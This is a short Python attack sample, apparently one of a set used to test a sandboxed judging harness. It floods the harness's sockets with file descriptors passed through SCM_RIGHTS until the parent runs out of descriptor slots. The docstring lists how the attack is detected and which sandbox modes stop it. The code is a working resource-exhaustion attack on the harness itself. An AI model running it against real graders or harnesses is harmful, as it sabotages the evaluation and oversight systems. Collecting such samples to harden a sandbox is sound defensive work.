"""Sends the caller open files with every byte: who takes them has no room for its own soon.

Seen: the harness is disturbed, or has grown by more than 40 MB, or the programs beside it have other verdicts.
Stopped at: strict, standard.
Works: against a harness that takes descriptors from its children.
Verdict: killed, wrong, raised, timed_out.
"""
import array
import os
import socket


def attack():
    files = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 200)
    for fd in target.sockets():
        pair = socket.socket(fileno=os.dup(fd))
        pair.setblocking(False)
        for _ in range(200):
            try:
                pair.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
            except OSError:
                break
